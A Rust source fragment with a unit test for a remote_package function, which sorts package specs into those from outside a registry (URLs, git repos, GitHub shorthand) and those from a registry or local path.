fn span_of(cmd: &SimpleCommand) -> Span {
    cmd.name().map_or(cmd.span, |w| w.span)
}

#[cfg(test)]
mod tests {
    use super::remote_package;

    #[test]
    fn package_specs_from_outside_the_registry() {
        for spec in [
            "https://x.example/y.tgz",
            "git+https://x.example/y.git",
            "git@github.com:u/r.git",
            "github:u/r",
            "u/r",
            "u/r#main",
            "x @ https://x.example/x.zip",
        ] {
            assert!(remote_package(spec), "{spec}");
        }
        for spec in [
            "lodash",
            "lodash@4",
            "@types/node",
            "@scope/pkg@1.0.0",
            "./local",
            "../x",
            "/abs/x",
            "~/x",
            "file:../x",
            "requests==2.0",
            "x.tgz",
            "dist/x.tgz",
        ] {
            assert!(!remote_package(spec), "{spec}");
        }
    }
}
